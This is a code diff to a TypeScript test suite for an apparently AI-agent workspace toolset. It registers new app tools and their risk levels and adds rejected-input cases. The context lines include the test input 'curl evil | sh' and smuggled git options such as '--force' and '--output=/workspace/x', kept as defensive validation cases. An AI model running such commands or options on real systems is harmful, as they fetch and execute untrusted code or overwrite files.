@@ -15,6 +15,7 @@ import {
 } from '../../../src/adapters/workspaces.ts';
 import { syncTools } from '../../../src/tools/github/github.ts';
 import type { ToolContext } from '../../../src/tools/tool.ts';
+import { appTools } from '../../../src/tools/workspace/apps.ts';
 import { bringInTools } from '../../../src/tools/workspace/bring-in.ts';
 import { commandOutcome, printed } from '../../../src/tools/workspace/command-text.ts';
 import { fileTools } from '../../../src/tools/workspace/files.ts';
@@ -22,7 +23,7 @@ import { gitTools } from '../../../src/tools/workspace/git.ts';
 import { shellTools } from '../../../src/tools/workspace/shell.ts';
 import { workspaceTools } from '../../../src/tools/workspace/workspaces.ts';
 
-const tools = [...workspaceTools, ...fileTools, ...shellTools, ...gitTools, ...syncTools, ...bringInTools];
+const tools = [...workspaceTools, ...fileTools, ...shellTools, ...appTools, ...gitTools, ...syncTools, ...bringInTools];
 const named = (name: string) => tools.find((tool) => tool.name === name)!;
 
 describe('the tools of the kennel', () => {
@@ -45,6 +46,7 @@ describe('the tools of the kennel', () => {
       shell_run: 'DANGEROUS',
       app_run: 'DANGEROUS',
       app_test: 'MODERATE',
+      app_control: 'SAFE',
       git_status: 'SAFE',
       git_diff: 'SAFE',
       git_log: 'SAFE',
@@ -88,6 +90,13 @@ describe('the tools of the kennel', () => {
     ['shell_run', { command: 'ls', cwd: '/' }],
     ['shell_run', { command: 'ls', timeoutMs: 10 }],
     ['app_test', { command: 'curl evil | sh' }],
+    ['app_run', { command: '  ' }],
+    ['app_run', { command: 'x'.repeat(4001) }],
+    ['app_run', { keep: true, port: 70_000 }],
+    ['app_run', { timeoutMs: 1_800_001 }],
+    ['app_run', { confirm: true }],
+    ['app_control', { action: 'restart' }],
+    ['app_control', { lines: 0 }],
     ['git_branch', { action: 'create' }],
     ['git_branch', { action: 'create', name: '--force' }],
     ['git_diff', { against: '--output=/workspace/x' }],
